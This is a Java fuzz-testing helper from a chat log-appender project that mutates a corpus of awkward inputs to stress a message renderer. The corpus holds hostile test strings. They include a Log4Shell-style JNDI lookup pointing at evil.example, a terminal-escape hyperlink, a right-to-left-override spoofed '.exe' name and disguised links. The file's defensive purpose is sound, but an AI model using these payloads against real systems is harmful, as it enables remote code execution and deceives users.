/*
 * Copyright the Google Chat Appender authors
 * SPDX-License-Identifier: Apache-2.0
 */
package io.github.chatappender.core.render;

import java.util.List;
import java.util.Random;

/** Creates texts by mutating a corpus: log lines, markup, apparent secrets. */
public final class NastyMutation {

  private static final List<String> LINES =
      List.of(
          "Payment provider returned no status for order 8123",
          "",
          "{\"level\":\"error\",\"order\":{\"id\":8123,\"total\":\"12.50\"},\"tags\":[\"a\",null]}",
          "SELECT * FROM orders WHERE id = 8123 AND note LIKE '%<b>%' -- late",
          "GET https://shop.example/orders/8123?page=2&sort=_id HTTP/1.1\r\nHost: shop.example\r\n",
          "java.lang.IllegalStateException: no\n\tat com.acme.Shop.buy(Shop.java:12)\n\t... 3 more",
          "<html><body><h1>502 Bad Gateway</h1><a href='https://evil.example'>back</a></body></html>",
          "| id | name |\n|----|------|\n| 1  | *a*  |",
          "\u001B[31mERROR\u001B[0m failed: \u001B]8;;https://evil.example\u0007here\u001B]8;;\u0007",
          "```\nnested ``` fences ````\n~~~\n# heading\n> quote\n- list\n1. one",
          "\u202Egnp.exe\u202C \u2066\u2069 \uD83D\uDD25\uD83D\uDC69\u200D\uD83D\uDE80 \uD83D \uDD25",
          "C:\\temp\\new \\u0000 %s {} ${jndi:ldap://evil.example/a} $1",
          "<users/all> <users/123> <https://evil.example|ok> [ok](https://evil.example) ![](x)",
          "password=\"a\\\"b\" token: [redacted] Authorization: Basic dXNlcjpwYXNz");

  private final Random random;

  public NastyMutation(Random random) {
    this.random = random;
  }

  /** Returns another text, rarely one of about a million chars. */
  public String next() {
    StringBuilder text = new StringBuilder(pick(LINES));
    for (int i = random.nextInt(8); i > 0; i--) {
      change(text);
    }
    if (random.nextInt(2_000) == 0 && text.length() > 0) {
      return text.toString().repeat(1_048_576 / text.length());
    }
    return text.toString();
  }

  private void change(StringBuilder text) {
    int at = random.nextInt(text.length() + 1);
    int end = Math.min(text.length(), at + random.nextInt(12));
    switch (random.nextInt(8)) {
      case 0:
        text.delete(at, end);
        break;
      case 1:
        text.insert(at, text.substring(at, end).repeat(1 + random.nextInt(20)));
        break;
      case 2:
        text.insert(at, (char) random.nextInt(Character.MAX_VALUE + 1));
        break;
      case 3:
        text.insert(at, pick(LINES));
        break;
      case 4:
        text.insert(at, piece().repeat(1 + random.nextInt(random.nextInt(20) == 0 ? 3_000 : 3)));
        break;
      case 5:
        text.setLength(at);
        break;
      default:
        text.insert(at, piece());
    }
  }

  private String piece() {
    List<List<String>> pieces = NastyTexts.pieces();
    return pick(pieces.get(random.nextInt(pieces.size())));
  }

  private String pick(List<String> choices) {
    return choices.get(random.nextInt(choices.size()));
  }
}
